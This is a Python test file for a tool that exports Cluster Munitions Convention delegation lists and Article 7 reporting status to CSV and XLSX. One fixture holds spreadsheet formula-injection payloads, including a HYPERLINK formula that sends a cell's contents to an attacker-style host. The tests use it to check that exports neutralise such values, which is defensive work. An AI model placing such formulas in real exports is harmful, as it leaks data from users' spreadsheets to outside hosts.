"""`ccm-intake export`: the delegations of a meeting and the Article 7 reports of a year, from
mail filed through the real processing step, as CSV and XLSX."""

from __future__ import annotations

import csv
import io
import os
import re
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import pytest

from config.settings import load_settings
from tests.app import keep, run_cli
from worker import processing
from worker.exports import (
    ARTICLE7_HEADERS,
    DELEGATION_HEADERS,
    Table,
    article7_table,
    delegations_table,
    write_csv,
    write_xlsx,
)
from worker.runtime import Context, build_context
from worker.samples import australia_article7, france_delegation, mexico_delegation

AUGUST = datetime(2017, 8, 14, 9, 0, tzinfo=UTC)
APRIL = datetime(2017, 4, 20, 9, 0, tzinfo=UTC)


def filed(tmp_path: Path) -> Context:
    ctx = build_context(load_settings({"CCM_DATA_DIR": str(tmp_path)}))
    mails = [
        (france_delegation(AUGUST).raw, AUGUST),
        (mexico_delegation(AUGUST).raw, AUGUST),
        # France sends its list again two days later: the export shows the second version.
        (france_delegation(datetime(2017, 8, 16, 7, 30, tzinfo=UTC)).raw, AUGUST.replace(day=16)),
        (australia_article7(APRIL).raw, APRIL),
    ]
    for uid, (raw, when) in enumerate(mails, start=1):
        message_id, _ = keep(ctx, raw, uid, when)
        processing.process_message(ctx, message_id, now=when)
    return ctx


def by_column(table: Table) -> list[dict[str, str]]:
    return [dict(zip(table.headers, row, strict=True)) for row in table.rows]


def test_the_delegations_export_lists_each_delegate_of_the_latest_list(tmp_path: Path) -> None:
    table = delegations_table(filed(tmp_path), "7MSP")
    assert table.headers == DELEGATION_HEADERS
    rows = by_column(table)
    france = [r for r in rows if r["ISO3"] == "FRA"]
    assert [r["Role"] for r in france] == ["head", "alternate", "adviser"]
    assert france[0]["Name"].endswith("Jean Dupont") and france[0]["State"] == "France"
    # The second version only, received 16 August 11:00 in Geneva (09:00 UTC, summer time).
    assert {(r["Version"], r["Reference"], r["Received (Geneva)"]) for r in france} == {
        ("2", "CCM/7MSP/DEL/FRA/002", "2017-08-16 11:00")
    }
    assert {r["ISO3"] for r in rows} == {"FRA", "MEX"}  # Australia's report is no delegation
    assert delegations_table(filed(tmp_path / "again"), "8MSP").rows == ()


def test_the_article7_export_says_on_time_late_or_missing_for_every_state_party(
    tmp_path: Path,
) -> None:
    ctx = filed(tmp_path)
    rows = {r["ISO3"]: r for r in by_column(article7_table(ctx, 2016))}
    assert tuple(article7_table(ctx, 2016).headers) == ARTICLE7_HEADERS
    australia = rows["AUS"]
    assert (australia["Status"], australia["Due"], australia["Versions"]) == (
        "on time",
        "2017-04-30",
        "1",
    )
    assert australia["Reference (latest)"].startswith("CCM/")
    assert set(australia["Forms present"].split()) >= {"A", "B"}
    assert rows["FRA"]["Status"] == "missing"
    assert "MEX" in rows and rows["MEX"]["Status"] == "missing"
    parties = {s.iso3 for s in ctx.registry if s.ccm_status == "state_party"}
    assert set(rows) <= parties and len(rows) > 80  # every party in force by 2016, no other
    assert "USA" not in rows  # not a party: owes nothing
    # A year the calendar does not list follows the same rule: due 30 April of the next year.
    assert {r["Due"] for r in by_column(article7_table(ctx, 2012))} == {"2013-04-30"}


def test_a_late_report_is_marked_late(tmp_path: Path) -> None:
    ctx = build_context(load_settings({"CCM_DATA_DIR": str(tmp_path)}))
    message_id, _ = keep(ctx, australia_article7(AUGUST).raw, 1, AUGUST)
    processing.process_message(ctx, message_id, now=AUGUST)
    rows = {r["ISO3"]: r for r in by_column(article7_table(ctx, 2016))}
    assert rows["AUS"]["Status"] == "late"


HOSTILE = Table(
    "Delegations 7MSP",
    ("Name", "Email"),
    (
        ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+41 22 917 00 00"),
        ("@SUM(1+1)", "-2+3"),
        ("Jean Dupont", "jean.dupont@diplomatie.gouv.fr"),
    ),
)


def test_a_csv_cell_never_starts_a_formula() -> None:
    out = io.StringIO()
    write_csv(HOSTILE, out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[1] == ['\'=HYPERLINK("http://evil.example/?"&A1,"click")', "'+41 22 917 00 00"]
    assert rows[2] == ["'@SUM(1+1)", "'-2+3"]
    assert rows[3] == ["Jean Dupont", "jean.dupont@diplomatie.gouv.fr"]


def test_an_xlsx_cell_holds_the_text_not_a_formula(tmp_path: Path) -> None:
    path = tmp_path / "x.xlsx"
    write_xlsx(HOSTILE, path)
    sheet = openpyxl.load_workbook(path).active
    assert sheet is not None
    cell = sheet["A2"]
    assert cell.data_type == "s" and cell.value == HOSTILE.rows[0][0]
    assert [c.value for c in sheet[1]] == ["Name", "Email"]


def cli_env(tmp_path: Path) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("CCM_")}
    return {**env, "CCM_DATA_DIR": str(tmp_path)}


def test_the_export_commands_write_csv_to_stdout_and_xlsx_to_a_file(tmp_path: Path) -> None:
    filed(tmp_path)
    env = cli_env(tmp_path)
    done = run_cli(env, "export", "delegations", "--meeting", "7MSP", "--format", "csv")
    assert done.returncode == 0, done.stderr
    rows = list(csv.reader(io.StringIO(done.stdout)))
    assert rows[0] == list(DELEGATION_HEADERS) and len(rows) == 1 + 3 + 3  # FRA v2, MEX

    path = tmp_path / "a7.xlsx"
    done = run_cli(env, "export", "article7", "--year", "2016", "-o", str(path))
    assert done.returncode == 0, done.stderr
    assert f"rows written to {path}" in done.stderr
    sheet = openpyxl.load_workbook(path).active
    assert sheet is not None and sheet.title == "Article 7 2016"
    assert ["AUS", "on time"] in [[r[0], r[4]] for r in sheet.iter_rows(values_only=True)]


@pytest.mark.parametrize("args", [("--format", "pdf"), ("--help",)])
def test_the_export_command_explains_itself(tmp_path: Path, args: tuple[str, ...]) -> None:
    done = run_cli(cli_env(tmp_path), "export", "delegations", *args)
    if args == ("--help",):
        assert done.returncode == 0 and "Example: ccm-intake export delegations" in done.stdout
    else:
        assert (
            done.returncode == 2 and "--format must be one of csv, xlsx, not 'pdf'" in done.stderr
        )


def test_a_purged_list_is_one_row_saying_so(tmp_path: Path) -> None:
    ctx = filed(tmp_path)
    done = run_cli(cli_env(tmp_path), "purge", "--before", "2017-08-15")
    assert done.returncode == 0, done.stderr
    rows = by_column(delegations_table(ctx, "7MSP"))
    mexico = [r for r in rows if r["ISO3"] == "MEX"]  # received 14 August: purged
    assert len(mexico) == 1 and mexico[0]["Name"] == ""
    assert re.fullmatch(
        r"3 delegate\(s\); names purged on \d{4}-\d\d-\d\d \(retention\)", mexico[0]["Note"]
    )
    assert [r["Role"] for r in rows if r["ISO3"] == "FRA"] == ["head", "alternate", "adviser"]
